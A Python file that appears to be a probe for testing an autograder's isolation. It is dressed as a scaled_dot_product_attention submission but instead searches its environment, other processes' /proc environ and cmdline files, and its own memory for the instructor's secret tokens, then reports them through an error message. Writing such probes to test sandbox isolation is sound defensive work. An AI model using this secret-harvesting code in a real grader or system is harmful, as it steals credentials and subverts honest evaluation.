# Looks for the instructor's secrets everywhere a process can look in itself: its environment, every
# process's environment and command line it can see, and its own writable memory, read in place
# (the KEY=VALUE strings exec left on its stack survive os.environ.clear()). Reports what it finds in
# the only channel back: its own feedback.
# Then it waits (up to a minute) while its `ready` file exists, so a test can scan it from outside; that once,
# at its first call in a worker.
import ctypes
import os
import re
import time

SECRET = re.compile(rb"s3cret-[0-9a-f]{32}")
CHUNK = 1 << 20


def _own_memory():
    """Private writable mappings (stack, heap, anonymous): file-backed ones may end before their span."""
    found = set()
    with open("/proc/self/maps") as maps:
        regions = [line.split() for line in maps]
    for fields in regions:
        permissions, path = fields[1], fields[5] if len(fields) > 5 else ""
        if not permissions.startswith("rw") or (path and not path.startswith("[")):
            continue
        start, end = (int(address, 16) for address in fields[0].split("-"))
        for offset in range(start, end, CHUNK):
            found.update(SECRET.findall(ctypes.string_at(offset, min(CHUNK + 64, end - offset))))
    return found


def _environments():
    found = set(SECRET.findall(repr(dict(os.environ)).encode()))
    for entry in os.listdir("/proc"):
        for name in ("environ", "cmdline"):
            try:
                with open(f"/proc/{entry}/{name}", "rb") as text:
                    found.update(SECRET.findall(text.read()))
            except OSError:
                pass
    return found


_found = None  # what the first call found; the later calls in this worker say it again at once


def scaled_dot_product_attention(Q, K, V, is_causal=True):
    global _found
    if _found is None:
        _found = sorted(s.decode() for s in _environments() | _own_memory())
        open("ready", "w").close()
        deadline = time.monotonic() + 60
        while os.path.exists("ready") and time.monotonic() < deadline:
            time.sleep(0.05)
    raise RuntimeError(f"secrets found: {_found}")
